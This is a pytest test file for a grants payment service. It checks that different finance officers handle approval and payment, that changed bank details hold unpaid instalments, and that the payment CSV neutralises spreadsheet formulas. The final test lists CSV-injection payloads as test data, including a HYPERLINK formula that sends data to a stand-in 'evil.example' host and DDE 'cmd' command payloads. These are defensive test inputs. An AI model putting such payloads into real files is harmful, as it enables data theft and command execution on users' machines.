"""Paying instalments: one finance officer approves, another records the payment; the officer who
approved the grant does neither; a change of bank details holds every unpaid instalment until
finance verify the new account; and the payment file cannot smuggle a formula into a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import date, timedelta
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import select, update
from sqlalchemy.exc import IntegrityError

from sv_grants.audit.models import AuditEvent
from sv_grants.auth.models import Role, User
from sv_grants.dates import clock
from sv_grants.extensions import db
from sv_grants.funds.models import Fund
from sv_grants.grants import payments, services
from sv_grants.grants.models import Grant, GrantStatus, Instalment, InstalmentStatus, Trigger
from sv_grants.grants.schedule import PlannedInstalment
from sv_grants.grants.services import GrantError
from sv_grants.organisations import bank
from sv_grants.organisations.models import BankAccount, Organisation
from sv_grants.organisations.services import OrganisationError

from .factories import accept, approved_application, funded, give_bank_details, offer

PAID_ON = date(2025, 4, 10)


# --- helpers: every step goes through the service, in its own app context, as a request would -------


def instalment(grant_id: int, sequence: int) -> Instalment:
    return db.session.scalar(select(Instalment).where(Instalment.grant_id == grant_id,
                                                      Instalment.sequence == sequence))


def approve(app: Flask, user_id: int, grant_id: int, sequence: int = 1) -> None:
    with app.app_context():
        payments.approve(db.session.get(User, user_id), instalment(grant_id, sequence))
        db.session.commit()


def pay(app: Flask, user_id: int, grant_id: int, sequence: int = 1, paid_on: date = PAID_ON,
        remittance: str = "BACS-0001") -> None:
    with app.app_context():
        payments.record_paid(db.session.get(User, user_id), instalment(grant_id, sequence), paid_on, remittance)
        db.session.commit()


def refusal(app: Flask, action: Any, user_id: int, grant_id: int, sequence: int = 1, *args: Any) -> GrantError:
    """The GrantError ``action`` raises; the transaction is rolled back, as the page does."""
    with app.app_context():
        with pytest.raises(GrantError) as refused:
            action(db.session.get(User, user_id), instalment(grant_id, sequence), *args)
        db.session.rollback()
    return refused.value


def states(app: Flask, grant_id: int) -> list[str]:
    with app.app_context():
        return [i.status for i in db.session.get(Grant, grant_id).instalments]


def ledger(app: Flask, grant_id: int) -> tuple[int, str]:
    with app.app_context():
        grant = db.session.get(Grant, grant_id)
        return grant.paid_pence, grant.status


def actions(app: Flask, *prefixes: str) -> list[str]:
    with app.app_context():
        return [e.action for e in db.session.scalars(select(AuditEvent).order_by(AuditEvent.id))
                if e.action.startswith(prefixes)]


def with_schedule(app: Flask, setting: Any, make_user: Any, plan: list[PlannedInstalment], **kwargs: Any) -> Any:
    """A £20,000 grant paid in ``plan`` instead of the default schedule, accepted."""
    f = funded(app, setting, make_user, accepted=False, **kwargs)
    with app.app_context():
        services.replace_schedule(db.session.get(User, f.officer.id), db.session.get(Grant, f.grant_id), plan)
        db.session.commit()
    accept(app, f.grant_id, f.applicant.id)
    return f


FOUR_QUARTERS = [PlannedInstalment(5_000_00, Trigger.ON_ACCEPTANCE), PlannedInstalment(5_000_00, Trigger.ON_ACCEPTANCE),
                 PlannedInstalment(5_000_00, Trigger.ON_ACCEPTANCE), PlannedInstalment(5_000_00, Trigger.FINAL_RETURN)]


# --- the two steps -------------------------------------------------------------------------------


def test_an_instalment_approved_by_one_finance_officer_and_recorded_by_another_is_paid(
        app: Flask, setting: Any, make_user: Any) -> None:
    f = funded(app, setting, make_user)
    with app.app_context():
        account_id = bank.current_account(f.organisation_id).id

    approve(app, f.finance.id, f.grant_id)
    with app.app_context():
        first = instalment(f.grant_id, 1)
        assert (first.status, first.approved_by_id, first.bank_account_id) == (
            InstalmentStatus.APPROVED, f.finance.id, account_id)
    assert ledger(app, f.grant_id) == (0, GrantStatus.ACCEPTED)  # approved is not paid

    pay(app, f.finance2.id, f.grant_id, remittance="  BACS-0001 ")

    assert ledger(app, f.grant_id) == (10_000_00, GrantStatus.ACTIVE)
    with app.app_context():
        first = instalment(f.grant_id, 1)
        assert (first.status, first.paid_by_id, first.paid_on, first.remittance_reference) == (
            InstalmentStatus.PAID, f.finance2.id, PAID_ON, "BACS-0001")
        events = {e.action: e for e in db.session.scalars(select(AuditEvent).where(
            AuditEvent.subject_type == "grants", AuditEvent.subject_id == str(f.grant_id)))}
        assert (events["payment.approved"].actor_id, events["payment.approved"].details["amount_pence"]) == (
            f.finance.id, 10_000_00)
        paid = events["payment.paid"]
        assert paid.actor_id == f.finance2.id
        assert (paid.details["amount_pence"], paid.details["remittance"], paid.details["paid_on"]) == (
            10_000_00, "BACS-0001", "2025-04-10")
        assert db.session.get(Fund, setting.fund_id).committed_pence == 20_000_00  # paying commits nothing new
    assert states(app, f.grant_id) == [InstalmentStatus.PAID, InstalmentStatus.SCHEDULED, InstalmentStatus.SCHEDULED]


def test_the_finance_officer_who_approved_a_payment_cannot_also_record_it_paid(
        app: Flask, setting: Any, make_user: Any) -> None:
    f = funded(app, setting, make_user)
    approve(app, f.finance.id, f.grant_id)

    refused = refusal(app, payments.record_paid, f.finance.id, f.grant_id, 1, PAID_ON, "BACS-0001")

    assert str(refused) == "You approved this payment, so someone else must record it as paid"
    assert ledger(app, f.grant_id) == (0, GrantStatus.ACCEPTED)
    assert states(app, f.grant_id)[0] == InstalmentStatus.APPROVED


def test_the_database_refuses_a_payment_recorded_by_its_approver(app: Flask, setting: Any, make_user: Any) -> None:
    f = funded(app, setting, make_user)
    approve(app, f.finance.id, f.grant_id)

    with app.app_context():
        first = instalment(f.grant_id, 1)
        with pytest.raises(IntegrityError):
            db.session.execute(update(Instalment).where(Instalment.id == first.id).values(
                status=InstalmentStatus.PAID, paid_by_id=f.finance.id, paid_on=PAID_ON))
            db.session.flush()
        db.session.rollback()


def decided_by_a_finance_officer(app: Flask, setting: Any, make_user: Any) -> tuple[int, Any, Any, Any]:
    """An accepted grant whose deciding officer also holds the finance role; returns the grant id,
    that officer and two other finance officers."""
    applicant = make_user(Role.APPLICANT)
    officer = make_user(Role.GRANTS_OFFICER, Role.FINANCE_OFFICER, name="Two Hats")
    reviewer = make_user(Role.REVIEWER)
    finance, finance2 = make_user(Role.FINANCE_OFFICER), make_user(Role.FINANCE_OFFICER)
    application_id = approved_application(app, setting, applicant.id, officer.id, reviewer.id)
    grant_id = offer(app, application_id, officer.id)
    with app.app_context():
        grant = db.session.get(Grant, grant_id)
        assert grant.approved_by_id == officer.id
        organisation_id = grant.organisation_id
    give_bank_details(app, organisation_id, applicant.id, verified_by=finance.id)
    accept(app, grant_id, applicant.id)
    return grant_id, officer, finance, finance2


def test_the_officer_who_approved_the_grant_cannot_approve_its_payments_even_with_the_finance_role(
        app: Flask, setting: Any, make_user: Any) -> None:
    grant_id, officer, _finance, _finance2 = decided_by_a_finance_officer(app, setting, make_user)

    refused = refusal(app, payments.approve, officer.id, grant_id)

    assert str(refused) == "You approved this grant, so someone else must approve its payments"
    assert states(app, grant_id)[0] == InstalmentStatus.DUE
    assert "payment.approved" not in actions(app, "payment.")


def test_the_officer_who_approved_the_grant_cannot_record_its_payments_even_with_the_finance_role(
        app: Flask, setting: Any, make_user: Any) -> None:
    grant_id, officer, finance, finance2 = decided_by_a_finance_officer(app, setting, make_user)
    approve(app, finance.id, grant_id)

    refused = refusal(app, payments.record_paid, officer.id, grant_id, 1, PAID_ON, "BACS-0001")

    assert str(refused) == "You approved this grant, so someone else must record its payments"
    assert ledger(app, grant_id) == (0, GrantStatus.ACCEPTED)
    pay(app, finance2.id, grant_id)  # someone independent can
    assert ledger(app, grant_id) == (10_000_00, GrantStatus.ACTIVE)


def test_only_finance_staff_can_approve_or_record_payments(app: Flask, setting: Any, make_user: Any) -> None:
    f = funded(app, setting, make_user)
    assessor = make_user(Role.GRANTS_OFFICER)

    for person in (assessor, f.applicant, f.reviewer):
        assert str(refusal(app, payments.approve, person.id, f.grant_id)) == (
            "Only finance staff can approve or record payments")
    approve(app, f.finance.id, f.grant_id)
    for person in (assessor, f.applicant):
        assert str(refusal(app, payments.record_paid, person.id, f.grant_id, 1, PAID_ON, "BACS-0001")) == (
            "Only finance staff can approve or record payments")
    assert ledger(app, f.grant_id) == (0, GrantStatus.ACCEPTED)


def test_an_instalment_is_paid_only_once(app: Flask, setting: Any, make_user: Any) -> None:
    f = funded(app, setting, make_user)
    third = make_user(Role.FINANCE_OFFICER)
    approve(app, f.finance.id, f.grant_id)
    pay(app, f.finance2.id, f.grant_id)

    again = refusal(app, payments.record_paid, third.id, f.grant_id, 1, PAID_ON, "BACS-0002")
    reapproved = refusal(app, payments.approve, third.id, f.grant_id)

    assert str(again) == str(reapproved) == "This instalment has already been paid"
    assert ledger(app, f.grant_id) == (10_000_00, GrantStatus.ACTIVE)
    with app.app_context():
        assert instalment(f.grant_id, 1).remittance_reference == "BACS-0001"
    assert actions(app, "payment.paid") == ["payment.paid"]


def test_an_instalment_not_yet_due_cannot_be_approved(app: Flask, setting: Any, make_user: Any) -> None:
    f = funded(app, setting, make_user)

    refused = refusal(app, payments.approve, f.finance.id, f.grant_id, 2)

    assert str(refused) == "This instalment is scheduled, so it cannot be approved"
    assert states(app, f.grant_id)[1] == InstalmentStatus.SCHEDULED


def test_a_payment_cannot_be_dated_in_the_future_or_recorded_without_a_remittance(
        app: Flask, setting: Any, make_user: Any) -> None:
    f = funded(app, setting, make_user)
    approve(app, f.finance.id, f.grant_id)
    tomorrow = clock.today_in_london() + timedelta(days=1)

    future = refusal(app, payments.record_paid, f.finance2.id, f.grant_id, 1, tomorrow, "BACS-0001")
    blank = refusal(app, payments.record_paid, f.finance2.id, f.grant_id, 1, PAID_ON, "   ")

    assert (str(future), future.field) == ("The payment date must be today or in the past", "paid_on")
    assert (str(blank), blank.field) == ("Enter the remittance reference", "remittance")
    assert ledger(app, f.grant_id) == (0, GrantStatus.ACCEPTED)
    assert states(app, f.grant_id)[0] == InstalmentStatus.APPROVED
    pay(app, f.finance2.id, f.grant_id, paid_on=clock.today_in_london())  # today is fine
    assert ledger(app, f.grant_id) == (10_000_00, GrantStatus.ACTIVE)


# --- bank details --------------------------------------------------------------------------------


def change_bank_details(app: Flask, user_id: int, organisation_id: int, number: str = "12345678") -> int:
    with app.test_request_context():  # the organisation's members are e-mailed, with a link
        account = bank.set_bank_details(db.session.get(User, user_id), db.session.get(Organisation, organisation_id),
                                        "Eastside Youth Trust", "20-00-00", number)
        db.session.commit()
        return account.id


def verify(app: Flask, user_id: int, account_id: int) -> None:
    with app.app_context():
        bank.verify_bank_details(db.session.get(User, user_id), db.session.get(BankAccount, account_id),
                                 "Called the treasurer on the number in the annual return", "")
        db.session.commit()


def test_new_bank_details_hold_every_unpaid_instalment_until_finance_verify_them(
        app: Flask, setting: Any, make_user: Any) -> None:
    f = with_schedule(app, setting, make_user, FOUR_QUARTERS)
    approve(app, f.finance.id, f.grant_id, 1)
    pay(app, f.finance2.id, f.grant_id, 1)
    approve(app, f.finance.id, f.grant_id, 2)
    assert states(app, f.grant_id) == [InstalmentStatus.PAID, InstalmentStatus.APPROVED, InstalmentStatus.DUE,
                                       InstalmentStatus.SCHEDULED]

    new_account = change_bank_details(app, f.applicant.id, f.organisation_id)

    # Paid stays paid; everything else waits, and the approval for the old account is gone.
    assert states(app, f.grant_id) == [InstalmentStatus.PAID] + [InstalmentStatus.ON_HOLD] * 3
    with app.app_context():
        second = instalment(f.grant_id, 2)
        assert (second.approved_by_id, second.approved_at, second.bank_account_id) == (None, None, None)
        assert payments.payment_rows() == []  # nothing goes into the payment run
    on_hold = "This instalment is on hold until the organisation's new bank details are verified"
    assert str(refusal(app, payments.approve, f.finance.id, f.grant_id, 3)) == on_hold
    assert str(refusal(app, payments.record_paid, f.finance2.id, f.grant_id, 2, PAID_ON, "BACS-0002")) == on_hold
    assert ledger(app, f.grant_id) == (5_000_00, GrantStatus.ACTIVE)

    verify(app, f.finance.id, new_account)

    # Back where they were, except that the approval has to be given again, to the new account.
    assert states(app, f.grant_id) == [InstalmentStatus.PAID, InstalmentStatus.DUE, InstalmentStatus.DUE,
                                       InstalmentStatus.SCHEDULED]
    approve(app, f.finance.id, f.grant_id, 2)
    with app.app_context():
        assert instalment(f.grant_id, 2).bank_account_id == new_account
    # (the first pair is from the grant's first bank details, given and verified after the offer)
    assert actions(app, "payment.held", "payment.released")[-2:] == ["payment.held", "payment.released"]


def test_new_bank_details_cannot_be_verified_by_whoever_entered_them_or_by_someone_outside_finance(
        app: Flask, setting: Any, make_user: Any) -> None:
    f = funded(app, setting, make_user)
    approve(app, f.finance.id, f.grant_id)
    # A finance officer keys in details from a letter: a classic mandate fraud.
    new_account = change_bank_details(app, f.finance2.id, f.organisation_id)

    for person, message in ((f.finance2, "Someone other than the person who entered these bank details must verify"),
                            (f.officer, "Only finance staff can verify bank details"),
                            (f.applicant, "Only finance staff can verify bank details")):
        with app.app_context():
            with pytest.raises(OrganisationError, match=message):
                bank.verify_bank_details(db.session.get(User, person.id), db.session.get(BankAccount, new_account),
                                         "I checked", "")
            db.session.rollback()

    assert states(app, f.grant_id) == [InstalmentStatus.ON_HOLD] * 3
    with app.app_context():
        assert db.session.get(BankAccount, new_account).verified_at is None
    verify(app, f.finance.id, new_account)
    assert states(app, f.grant_id) == [InstalmentStatus.DUE, InstalmentStatus.SCHEDULED, InstalmentStatus.SCHEDULED]


def test_nothing_is_approved_until_the_first_bank_details_are_given_and_verified(
        app: Flask, setting: Any, make_user: Any) -> None:
    f = funded(app, setting, make_user, bank_verified=False)

    none_given = refusal(app, payments.approve, f.finance.id, f.grant_id)
    assert str(none_given) == "Eastside Youth Trust has not given bank details yet"

    account_id = give_bank_details(app, f.organisation_id, f.applicant.id)
    unverified = refusal(app, payments.approve, f.finance.id, f.grant_id)
    assert str(unverified) == "This instalment is on hold until the organisation's new bank details are verified"
    assert states(app, f.grant_id)[0] == InstalmentStatus.ON_HOLD

    verify(app, f.finance2.id, account_id)
    approve(app, f.finance.id, f.grant_id)
    assert states(app, f.grant_id)[0] == InstalmentStatus.APPROVED


def test_unverified_bank_details_given_before_the_offer_block_approval(
        app: Flask, setting: Any, make_user: Any) -> None:
    applicant, officer, reviewer = make_user(Role.APPLICANT), make_user(Role.GRANTS_OFFICER), make_user(Role.REVIEWER)
    finance = make_user(Role.FINANCE_OFFICER)
    application_id = approved_application(app, setting, applicant.id, officer.id, reviewer.id)
    with app.app_context():
        organisation_id = db.session.scalar(select(Organisation.id))
    give_bank_details(app, organisation_id, applicant.id)  # no instalments yet, so nothing is held
    grant_id = offer(app, application_id, officer.id)
    accept(app, grant_id, applicant.id)
    assert states(app, grant_id)[0] == InstalmentStatus.DUE

    refused = refusal(app, payments.approve, finance.id, grant_id)

    assert str(refused) == "Eastside Youth Trust's bank details have not been verified yet"
    assert states(app, grant_id)[0] == InstalmentStatus.DUE


def test_nothing_is_approved_or_paid_on_a_suspended_grant(app: Flask, setting: Any, make_user: Any) -> None:
    f = with_schedule(app, setting, make_user, FOUR_QUARTERS)
    approve(app, f.finance.id, f.grant_id, 1)
    with app.app_context():
        services.suspend(db.session.get(User, f.officer.id), db.session.get(Grant, f.grant_id), "Safeguarding concern")
        db.session.commit()

    approving = refusal(app, payments.approve, f.finance.id, f.grant_id, 2)
    paying = refusal(app, payments.record_paid, f.finance2.id, f.grant_id, 1, PAID_ON, "BACS-0001")

    assert str(approving) == str(paying) == "Grant GR-SVF-2425-0001 is suspended, so nothing can be paid on it"
    assert ledger(app, f.grant_id) == (0, GrantStatus.SUSPENDED)
    assert states(app, f.grant_id)[:2] == [InstalmentStatus.APPROVED, InstalmentStatus.DUE]


# --- the payment file ----------------------------------------------------------------------------


def payment_file(app: Flask) -> list[list[str]]:
    with app.app_context():
        text = payments.payments_csv(payments.payment_rows())
    return list(csv.reader(io.StringIO(text)))


def test_the_payment_file_has_one_row_per_approved_instalment_to_the_account_it_was_approved_to(
        app: Flask, setting: Any, make_user: Any) -> None:
    f = with_schedule(app, setting, make_user, FOUR_QUARTERS)
    with app.app_context():
        db.session.get(Fund, setting.fund_id).cost_centre = "CC4410"
        db.session.commit()
    approve(app, f.finance.id, f.grant_id, 1)
    pay(app, f.finance2.id, f.grant_id, 1)  # paid: out of the run
    approve(app, f.finance.id, f.grant_id, 2)
    approve(app, f.finance.id, f.grant_id, 3)
    # instalment 4 is scheduled: not in the run either

    rows = payment_file(app)

    assert rows == [["Payee", "Sort code", "Account number", "Amount", "Grant reference", "Cost centre"],
                    ["Eastside Youth Trust", "309430", "00733445", "5000.00", "GR-SVF-2425-0001", "CC4410"],
                    ["Eastside Youth Trust", "309430", "00733445", "5000.00", "GR-SVF-2425-0001", "CC4410"]]


def test_the_payment_file_amount_is_pounds_and_pence(app: Flask, setting: Any, make_user: Any) -> None:
    f = funded(app, setting, make_user)
    approve(app, f.finance.id, f.grant_id)

    [_header, row] = payment_file(app)

    assert row[3] == "10000.00"
    assert row[:3] == ["Eastside Youth Trust", "309430", "00733445"]


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", "-1",
                                  "@SUM(1+1)*cmd|' /C calc'!A0"])
def test_a_payee_name_that_a_spreadsheet_would_run_as_a_formula_is_defused(
        app: Flask, setting: Any, make_user: Any, name: str) -> None:
    f = funded(app, setting, make_user, bank_verified=False)
    give_bank_details(app, f.organisation_id, f.applicant.id, verified_by=f.finance2.id, account_name=name)
    approve(app, f.finance.id, f.grant_id)

    [header, row] = payment_file(app)

    assert header[0] == "Payee"
    assert row[0] == "'" + name
    assert row[3] == "10000.00"
